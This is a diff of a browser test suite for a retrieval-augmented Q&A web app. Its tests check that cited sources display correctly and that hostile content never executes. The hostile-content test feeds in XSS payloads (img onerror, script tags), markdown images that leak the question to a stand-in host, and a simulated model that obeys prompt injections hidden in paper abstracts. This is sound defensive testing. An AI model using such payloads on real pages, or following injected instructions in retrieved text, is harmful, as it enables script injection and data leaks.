@@ -10,11 +10,12 @@ Both tests use the real index of the bundled corpus and the real app over HTTP.
    accepts either the cited sources or, after a refusal, the closest papers.
 2. The cited-titles check must not depend on that, so it drives the same page
    with a SCRIPTED but real OpenAI-compatible server (tests/fault_server.py
-   FaultServer("ok"), whose fixed reply is both each paper's evidence selection
-   and the comparison's contrast sentence citing [1] and [2]): the cited
-   titles appear under the answer, clicking one shows its
-   abstract with the sentences sent to the model in bold; the screenshot
-   tests/artifacts/ui_answer.png is of this page.
+   FaultServer("ok"), whose reply writes each paper's first evidence sentence):
+   the answer is short, the cited titles appear under it, clicking [1] in the
+   answer opens that paper's evidence with the sentence the answer rests on
+   highlighted, and clicking a title shows its abstract with the sentences sent
+   to the model in bold; the screenshot tests/artifacts/ui_answer.png is of
+   this page.
 
 Chromium comes from Debian (`apt-get install -y chromium`, /usr/bin/chromium),
 Playwright from PyPI; `playwright install` (which downloads browsers) is
@@ -31,11 +32,14 @@ from pathlib import Path
 
 import pytest
 
+from benchmarks.reliability_injection import ObeyingLLM
+from rag.hostile import INSTRUCTIONS_NOTE, MARKUP_NOTE
 from rag.llm import OpenAIChatLLM
 from rag.pipeline import open_pipeline
 from rag.settings import PROJECT_ROOT
 from tests.fault_server import FaultServer
 from tests.serving import rag_serve
+from tests.test_generation import quoting
 from tests.test_ui import SEMANTIC_HUB, TRANSLICO, smol  # noqa: F401  (smol: the live app fixture)
 from ui.app import build_app, launch
 
@@ -58,9 +62,7 @@ CHROMIUM_ARGS = [
 ARTIFACTS = PROJECT_ROOT / "tests" / "artifacts"
 SCREENSHOT = ARTIFACTS / "ui_answer.png"
 COMPARISON = "Compare TransliCo and The Semantic Hub Hypothesis"
-# Read as an evidence selection, it picks sentences 1 and 2 of each paper; as the
-# comparison's contrast sentence, it cites both papers.
-SCRIPTED_REPLY = "Both concern representations shared across languages [1][2]."
+SCRIPTED_REPLY = quoting  # the model writes each paper's first evidence sentence, word for word
 ANSWER_TIMEOUT_MS = 300_000
 
 
@@ -163,7 +165,7 @@ def _expand_and_check(page, papers_by_title: dict, index: int = 0) -> int:
     assert item.evaluate("el => el.open")
     paper = papers_by_title[item.locator(".rag-title").inner_text().strip()]
     whole = " ".join(paper.abstract.split())
-    assert " ".join(abstract.inner_text().split()) == whole
+    assert " ".join(abstract.inner_text().split()) == whole  # (an abstract with no hostile sentence)
     bold = abstract.locator("strong")
     for i in range(bold.count()):
         assert " ".join(bold.nth(i).inner_text().split()) in whole
@@ -236,14 +238,25 @@ def test_cited_titles_are_listed_and_open_to_their_abstract(scripted, retriever,
     assert "External" in model and "scripted" in model and scripted["server"].base_url in model
     _pick_comparison(page)
     _ask_and_wait(page)
-    assert scripted["server"].requests == 3  # each compared paper's evidence, then the contrast
+    assert scripted["server"].requests == 1  # one written answer for both papers
     papers = {p.title: p for p in retriever.papers.values()}
     listed = _listed_papers(page)
     assert page.locator("#rag-chat .rag-sources-heading").last.inner_text().startswith("Sources")
     assert {title for _, title in listed} == {TRANSLICO, SEMANTIC_HUB}
     assert [label for label, _ in listed] == ["[1]", "[2]"]
-    answer_text = page.locator("#rag-chat .rag-sources").last.locator("xpath=..").inner_text()
-    assert "shared across languages [1][2]" in answer_text
+    answer_text = page.locator("#rag-chat .rag-sources").last.locator("xpath=..").inner_text().split("Sources")[0]
+    assert "[1]" in answer_text and "[2]" in answer_text and len(answer_text.split()) < 150  # short, both cited
+
+    # clicking [1] in the answer opens that paper's evidence, what the answer rests on highlighted
+    evidence = page.locator("#rag-chat details.rag-source").nth(0)
+    assert not evidence.evaluate("el => el.open")
+    page.locator("#rag-chat .rag-cite").first.click()
+    page.wait_for_function("() => document.querySelector('#rag-chat details.rag-source').open", timeout=5_000)
+    marked = evidence.locator(".rag-evidence mark.rag-support")
+    assert marked.count() >= 1 and marked.first.is_visible()
+    assert " ".join(marked.first.inner_text().split()) in " ".join(papers[listed[0][1]].abstract.split())
+    assert " ".join(marked.first.inner_text().split())[:40] in answer_text
+    evidence.locator("summary").click()  # closed again
     _expand_and_check(page, papers, 1)
     page.locator("#rag-chat details.rag-source").nth(1).locator("summary").click()  # closed again
     assert _expand_and_check(page, papers, 0) >= 1  # the sentences sent to the model are bold
@@ -340,9 +353,9 @@ def test_a_file_uploaded_in_the_page_is_answered_from(uploadable, small_corpus, 
     assert page.outside == [], page.outside
 
 
-# Read as an evidence selection it picks every sentence; the rest is what a model obeying
-# the abstracts would add (and, as a comparison's sentence, it is dropped as unsupported).
-OBEYING_REPLY = '{"sentences": [1, 2, 3, 4]} PWNED ![x](http://example.invalid/reply.png) <img src=x onerror=alert("reply")>'
+def OBEYING_REPLY(messages):  # noqa: N802  (a reply, as the scripted server takes it)
+    """One faithful sentence, then everything the abstracts' injections demand."""
+    return ObeyingLLM().complete(messages)
 
 
 @pytest.fixture
@@ -381,15 +394,15 @@ def test_hostile_titles_abstracts_and_questions_never_run_or_fetch(hostile_page,
             f"() => document.querySelectorAll('#rag-chat .rag-sources').length >= {number}", timeout=ANSWER_TIMEOUT_MS
         )
         for summary in page.locator("#rag-chat .rag-sources").last.locator("summary").all():
-            summary.click()  # the abstracts open: their <script> and leaking image are shown, as text
+            summary.click()  # the abstracts open: their hostile sentences are left out, with a note
     page.wait_for_timeout(1_000)  # time for a handler or an image request to fire
     assert dialogs == [] and fetched == [] and page.outside == [], (dialogs, fetched, page.outside)
     chat = page.inner_text("#rag-chat")
     assert "<img src=x onerror=alert(1)>" in chat  # the hostile title, shown as text
-    assert "<script>alert(2)</script>" in chat  # the abstract's script, as text
-    assert "![figure](http://example.invalid/collect?q=QUESTION)" in chat  # the leaking image, as text
+    assert "alert(2)" not in chat and MARKUP_NOTE in chat  # the abstract's sentence with a script: left out, noted
+    assert "example.invalid/collect" not in chat and INSTRUCTIONS_NOTE in chat  # the leaking image's sentence too
     assert 'onerror=alert("question")>' in chat and "![q](http://example.invalid/q.png)" in chat  # the questions
-    assert "PWNED" not in chat  # the obeying comparison sentence was dropped
+    assert "PWNED" not in chat and "document.domain" not in chat  # what the obeying model wrote was dropped
     remote = page.evaluate(
         "() => [...document.querySelectorAll('#rag-chat img, #rag-chat script, #rag-chat iframe')].map(e => e.outerHTML)"
         ".concat([...document.querySelectorAll('#rag-chat a')].map(a => a.href).filter(h => h.includes('example.invalid')))"
